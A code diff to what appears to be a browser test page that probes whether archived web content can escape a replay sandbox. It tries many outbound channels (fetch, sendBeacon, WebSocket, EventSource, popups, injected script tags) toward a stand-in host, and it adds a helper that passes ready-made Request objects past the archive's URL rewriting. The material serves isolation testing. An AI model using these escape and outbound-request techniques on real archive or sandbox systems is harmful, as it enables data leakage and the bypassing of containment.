@@ -15,6 +15,8 @@ const add = (tag, properties, parent = document.body) => {
   parent.append(element);
   return element;
 };
+// A request that is ready-made is not led into the archive.
+const bare = (url, options) => fetch(new Request(url, options));
 const script = name => `<script>new Image().src='${hit(name)}-img';location='${hit(name)}-nav'</scr` + "ipt>";
 
 attempt("own", () => fetch("proof.txt").then(answer => answer.text()));
@@ -23,19 +25,13 @@ attempt("storage", () => localStorage.length);
 attempt("database", () => indexedDB.open("x"));
 attempt("cache", () => caches.open("x"));
 attempt("parent", () => parent.document.title);
-attempt("api", () => fetch(`${MAIN}/cdx?url=hostile.example`, { credentials: "include" }).then(answer => answer.text()));
-attempt("api blind", () => fetch(`${MAIN}/cdx?url=hostile.example`, { mode: "no-cors" }));
-attempt("archive", () => fetch("http://" + location.host + "/web/2026id_/http://hostile.example/proof.txt").then(answer => answer.text()));
+attempt("api", () => bare(`${MAIN}/cdx?url=hostile.example`, { credentials: "include" }).then(answer => answer.text()));
+attempt("api blind", () => bare(`${MAIN}/cdx?url=hostile.example`, { mode: "no-cors" }));
+attempt("archive", () => bare(`http://${location.host}/web/2026id_/http://hostile.example/proof.txt`).then(answer => answer.text()));
 attempt("service worker", () => navigator.serviceWorker.register("proof.txt"));
 attempt("popup", () => window.open(hit("popup")));
 attempt("top", () => { top.location = hit("top"); });
-attempt("fetch", () => Reflect.construct(Request, [hit("fetch"), { mode: "no-cors" }]) && fetch(new Request(hit("fetch"), { mode: "no-cors" })));
-attempt("xhr", () => {
-  const frame = add("iframe", {});
-  const request = new frame.contentWindow.XMLHttpRequest();
-  request.open("GET", hit("xhr"), false);
-  request.send();
-});
+attempt("fetch", () => bare(hit("fetch"), { mode: "no-cors" }));
 attempt("beacon", () => navigator.sendBeacon(hit("beacon"), "x"));
 attempt("socket", () => { new WebSocket(hit("socket").replace("http", "ws")); });
 attempt("events", () => { new EventSource(hit("events")); });
